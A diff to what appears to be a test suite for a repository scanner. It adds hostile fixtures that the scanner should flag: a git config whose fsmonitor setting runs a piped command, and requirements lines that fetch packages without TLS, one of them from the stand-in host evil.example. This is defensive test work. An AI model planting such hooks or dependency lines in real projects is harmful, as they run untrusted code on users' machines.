@@ -162,6 +162,17 @@ HOSTILE = {
         "flavors:\n  sklearn:\n    pickled_model: ../m.pkl\n",
         "model-outside-path",
     ),
+    "git that runs what it fetched": (
+        ".git/config",
+        f'[core]\n\tfsmonitor = "{PIPED}"\n',
+        "script-attack",
+    ),
+    "a package without TLS": ("requirements.txt", f"x @ {FETCHED}.whl\n", "foreign-index"),
+    "a repository without TLS": (
+        "requirements.txt",
+        "git+http://evil.example/x.git\n",
+        "foreign-index",
+    ),
     "a cell that writes start-up settings": (
         "n.ipynb",
         notebook(f"%%writefile ~/.bashrc\n{PIPED}"),
@@ -206,6 +217,7 @@ def test_a_token_within_a_text_is_found_wherever_it_stands(token: str):
         ("a.sh", "python -c 'import torch; print(torch.__version__)'\n"),
         ("conda.yaml", "channels: [conda-forge, defaults]\ndependencies: [python=3.11]\n"),
         ("t.json", '{"note": "hf_' + "a" * 34 + '"}'),
+        ("requirements.txt", "x @ https://example.org/x-1.0-py3-none-any.whl\n"),
         ("qa.jsonl", f'{{"q": "what does {PIPED} do?"}}\n' * 2),
         ("qa.json", f'[{{"q": "what does {PIPED} do?"}}]'),
         ("mkdocs.yml", "a: !!python/name:material.extensions.emoji.twemoji\n"),
